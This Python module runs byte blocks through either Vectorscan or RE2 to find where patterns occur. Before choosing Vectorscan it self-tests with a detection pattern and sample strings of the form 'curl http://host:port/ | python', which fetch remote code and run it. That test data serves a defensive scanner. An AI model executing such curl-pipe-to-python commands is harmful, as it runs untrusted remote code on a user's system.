"""
Find, in a block of bytes, which patterns occur and where: two engines behind one method, with equal results.

`VectorEngine` (Vectorscan through pyperscan) runs at memory speed; `Re2Engine` needs no special wheel. Before the
first is used it must find the texts that a broken build of Vectorscan is known to lose (VectorCamp/vectorscan issue
382).
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from importlib import import_module
from threading import Lock
from typing import Any, Protocol

import re2

from resolver.log.loosen import Loose

Spot = int
"""An end offset in the block times `TAGS`, plus a pattern's index: one number, since a hostile block has very many."""
TAGS = 1 << 16


class Engine(Protocol):
    """Compiled patterns."""

    name: str

    def scan(self, block: bytes) -> list[Spot]:
        """All places where a pattern ends, in any order; a pattern may report several ends for one occurrence."""
        ...


class VectorEngine:
    """Vectorscan: many patterns in one pass over the block."""

    name = "vectorscan"

    def __init__(self, patterns: Sequence[Loose]) -> None:
        ps = import_module("pyperscan")
        self._spots: list[Spot] = []
        self._turn = Lock()
        compiled = [
            ps.Pattern(p.pattern.encode(), ps.Flag.MULTILINE, *([ps.Flag.CASELESS] if p.caseless else []), tag=tag)
            for tag, p in enumerate(patterns)
        ]
        self._scanner = ps.BlockDatabase(*compiled).build(self._spots, _vector_hit(ps.Scan.Continue))

    def scan(self, block: bytes) -> list[Spot]:
        """Scan. Safe for several threads, one after another: a scanner has one scratch space."""
        with self._turn:
            self._spots.clear()
            if block:
                self._scanner.scan(block)
            return self._spots.copy()


def _vector_hit(go_on: Any) -> Any:
    def hit(spots: list[Spot], tag: int, _start: int, end: int) -> Any:
        spots.append(end * TAGS + tag)
        return go_on

    return hit


class Re2Engine:
    """RE2's set matcher: asks whole pieces first, then the lines of pieces that hold something."""

    name = "re2"
    piece = 16_384

    def __init__(self, patterns: Sequence[Loose]) -> None:
        options = re2.Options()
        options.log_errors = False
        options.encoding = re2.Options.Encoding.LATIN1
        options.max_mem = 64 << 20
        self._set = re2.Set.SearchSet(options)
        for p in patterns:
            flags = "(?mi)" if p.caseless else "(?m)"
            self._set.Add((flags + p.pattern).encode())
        self._set.Compile()

    def scan(self, block: bytes) -> list[Spot]:
        """Scan piece by piece; a line's hits are reported at the line's end."""
        spots: list[Spot] = []
        start = 0
        while start < len(block):
            end = block.find(b"\n", start + self.piece) + 1 or len(block)
            piece = block[start:end]
            if self._set.Match(piece):
                self._lines(piece, start, spots)
            start = end
        return spots

    def _lines(self, piece: bytes, base: int, spots: list[Spot]) -> None:
        start = 0
        for part in re.split(rb"([\r\n])", piece):
            end = start + len(part)
            if len(part) > 1 or (part and part not in b"\r\n"):
                spots.extend((base + end) * TAGS + tag for tag in self._set.Match(part) or ())
            start = end


_KNOWN_LOSS = Loose(r"(?s)curl.*\x7c[ \t]*python", caseless=False)
_MUST_FIND = (
    b"curl http://xxx:8000/ 2>&1 | python",
    b"curl http://xxxx:8000/ 2>&1 | python",
    b"curl http://vader:8080/ 2>&1 | python",
)


def vector_engine_works() -> bool:
    """Whether Vectorscan is installed and finds what it must."""
    try:
        engine = VectorEngine([_KNOWN_LOSS])
    except ImportError:
        return False
    return all(engine.scan(text) for text in _MUST_FIND)


def build_engine(patterns: Sequence[Loose]) -> Engine:
    """The fastest engine that works here."""
    return VectorEngine(patterns) if vector_engine_works() else Re2Engine(patterns)
